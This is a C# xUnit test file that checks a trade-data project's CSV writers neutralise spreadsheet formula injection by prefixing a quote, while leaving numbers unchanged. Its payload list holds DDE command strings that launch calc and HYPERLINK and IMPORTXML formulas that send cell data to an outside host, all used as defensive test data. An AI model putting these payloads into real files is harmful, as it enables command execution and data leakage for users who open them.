using System.Globalization;
using System.Text;
using TradeBalance.Projections;
using Xunit;

namespace TradeBalance.Data.Tests.Hostile;

/// <summary>
/// Class (third round): spreadsheet formula injection in CSV output. Every CSV writer, given text that starts with
/// <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage return (a scenario name, a flow's source, a group's name,
/// read from a file nobody here controls), writes no text cell a spreadsheet would run: the OWASP rule puts a single
/// quote in front. Numbers are never changed, and RawText writes the text as it is. Before
/// the fix every payload was written as is (<c>=HYPERLINK(…)</c>).
/// </summary>
public sealed class FormulaInjectionTests
{
    private static readonly char[] Leads = ['=', '+', '-', '@', '\t', '\r'];

    private static readonly string[] Bodies =
    [
        "HYPERLINK(\"http://example.invalid/?q=\"&A1,\"Click\")", "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0", "2+5+cmd|' /C calc'!A0",
        "IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "x", "1+1", "1 (555) 0100", "=1", "@SUM(A1:A9)",
    ];

    /// <summary>Every formula lead with every body: 60 payloads.</summary>
    public static IEnumerable<string> Payloads() => Leads.SelectMany(lead => Bodies.Select(body => lead + body));

    /// <summary>Each CSV writer with one text value it carries: the CSV it writes. The canonical files' text reaches their
    /// writers through their readers, which trim fields (a leading tab or line break goes).</summary>
    private static readonly (string Name, Func<string, string> Write)[] Writers =
    [
        ("OutputTableCsv (a text column)", p => Write(w => OutputTableCsv.Write(Table(p), w))),
        ("ResultTables.Projection (the scenario name)", p => Write(w => OutputTableCsv.Write(ResultTables.Projection(ProjectionModel.Smart.Project(new ProjectionInputs(Named(p), KenyaChina.Flows, KenyaChina.Tariffs))), w))),
        ("FlowsCsv (source)", p => Write(w => FlowsCsv.Write(FlowsCsv.Read(new StringReader("year,exporter,importer,hs,value_usd,source\n2024,KEN,CHN,0902,5," + Quoted(p) + "\n"), "f.csv").Value, w))),
        ("TariffsCsv (source)", p => Write(w => TariffsCsv.Write(TariffsCsv.Read(new StringReader("importer,exporter,hs,rate_percent,source\nCHN,*,0902,15," + Quoted(p) + "\n"), "t.csv", Countries.China).Value, w))),
        ("ExchangeRatesCsv (source)", p => Write(w => ExchangeRatesCsv.Write(ExchangeRatesCsv.Read(new StringReader("base,quote,as_of,rate,basis,source\nUSD,KES,2024-01-01,130,daily," + Quoted(p) + "\n"), "r.csv").Value, w))),
        ("BilateralTotalsCsv (source)", p => Write(w => BilateralTotalsCsv.Write(BilateralTotalsCsv.Read(new StringReader("year,exporter,importer,value,currency,period,basis,source\n2024,KEN,CHN,1,USD,full-year,kenya-reported," + Quoted(p) + "\n"), "b.csv").Value, w))),
        ("CountryGroupsCsv (name and source)", p => Write(w => CountryGroupsCsv.Write(CountryGroupsCsv.Read(new StringReader("group,member,name,source\nXQF,KEN," + Quoted(p) + "," + Quoted(p) + "\n"), "g.csv").Value, w))),
    ];

    public static TheoryData<string> WriterNames() => [.. Writers.Select(w => w.Name)];

    [Theory]
    [MemberData(nameof(WriterNames))]
    public void No_writer_writes_a_text_cell_a_spreadsheet_would_run(string writer)
    {
        var index = Array.FindIndex(Writers, w => w.Name == writer);
        foreach (var payload in Payloads())
        {
            var csv = Writers[index].Write(payload);
            var cells = Cells(csv).ToList();
            Assert.True(FormulaCell(cells) is null, $"{writer}: '{Escape(payload)}' was written as the cell '{Escape(FormulaCell(cells) ?? string.Empty)}'");
            var carried = index < 2 ? payload : payload.Trim();
            var expected = FormulaCell([carried]) is null ? carried : "'" + carried;
            Assert.True(cells.Contains(expected), $"{writer}: '{Escape(payload)}' is not the cell '{Escape(expected)}' in:\n{Escape(csv)}");
        }
    }

    /// <summary>Numbers stay numbers: negative and signed values in number columns, and a text cell that is a number.</summary>
    [Fact]
    public void Numbers_are_never_changed()
    {
        var table = new OutputTable("t",
        [
            OutputColumn.Text("text", "u", "m", ["-5", "+1.5E-3", "-0.25", "-", "-x"]),
            OutputColumn.WholeNumber("whole", "u", "m", [-5, -1, 0, 1, -2_147_483_648]),
            OutputColumn.ExactNumber("exact", "u", "m", [-1.5m, -0.0001m, -79228162514264337593543950335m, 0m, 2m]),
            OutputColumn.FloatingPoint("float", "u", "m", [-1e-5, -0.10999958352421807, double.MinValue, -1, 0]),
        ]);
        var csv = Write(w => OutputTableCsv.Write(table, w));
        Assert.Equal(
            "text,whole,exact,float\n-5,-5,-1.5,-1E-05\n+1.5E-3,-1,-0.0001,-0.10999958352421807\n-0.25,0,-79228162514264337593543950335,-1.7976931348623157E+308\n'-,1,0,-1\n'-x,-2147483648,2,0\n",
            csv);
    }

    [Fact]
    public void Raw_text_writes_the_text_as_it_is()
    {
        foreach (var payload in Payloads())
        {
            var csv = Write(w => OutputTableCsv.Write(Table(payload), w, new CsvWriteOptions { RawText = true }));
            Assert.Contains(payload, Cells(csv));
            Assert.Contains("'" + payload, Cells(Write(w => OutputTableCsv.Write(Table(payload), w, CsvWriteOptions.Default))));
        }
    }

    /// <summary>A neutralised value reads back with its quote, and writing it again changes nothing.</summary>
    [Fact]
    public void Neutralising_is_idempotent_through_a_round_trip()
    {
        foreach (var payload in Payloads())
        {
            var first = Writers[2].Write(payload);
            var again = Write(w => FlowsCsv.Write(FlowsCsv.Read(new StringReader(first), "f.csv").Value, w));
            Assert.Equal(first, again);
        }
    }

    /// <summary>The first cell a spreadsheet would run as a formula: text starting with = + - @ tab CR that is not a number.</summary>
    internal static string? FormulaCell(IEnumerable<string> cells) =>
        cells.FirstOrDefault(c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r'
            && !(c[0] is '+' or '-' && c.Length > 1 && (char.IsAsciiDigit(c[1]) || c[1] == '.') && double.TryParse(c, NumberStyles.Float, CultureInfo.InvariantCulture, out _)));

    /// <summary>The cells of RFC 4180 text (quotes undone), row after row.</summary>
    internal static IEnumerable<string> Cells(string csv)
    {
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"' && cell.Length == 0)
            {
                quoted = true;
            }
            else if (c is ',' or '\n')
            {
                yield return cell.ToString();
                cell.Clear();
            }
            else
            {
                cell.Append(c);
            }
        }

        if (cell.Length > 0)
        {
            yield return cell.ToString();
        }
    }

    private static Scenario Named(string name)
    {
        var s = KenyaChina.Scenario;
        return new Scenario(name, s.Importer, s.BeneficiariesAsGiven, s.Lines, s.Change, s.Effective);
    }

    private static OutputTable Table(string text) => new("t", [OutputColumn.Text("name", "text", "A name.", [text]), OutputColumn.ExactNumber("value", "USD", "A value.", [-5m])]);

    private static string Quoted(string s) => "\"" + s.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    private static string Escape(string s) => s.Replace("\t", "\\t", StringComparison.Ordinal).Replace("\r", "\\r", StringComparison.Ordinal);

    private static string Write(Action<TextWriter> write)
    {
        var w = new StringWriter { NewLine = "\n" };
        write(w);
        return w.ToString();
    }
}
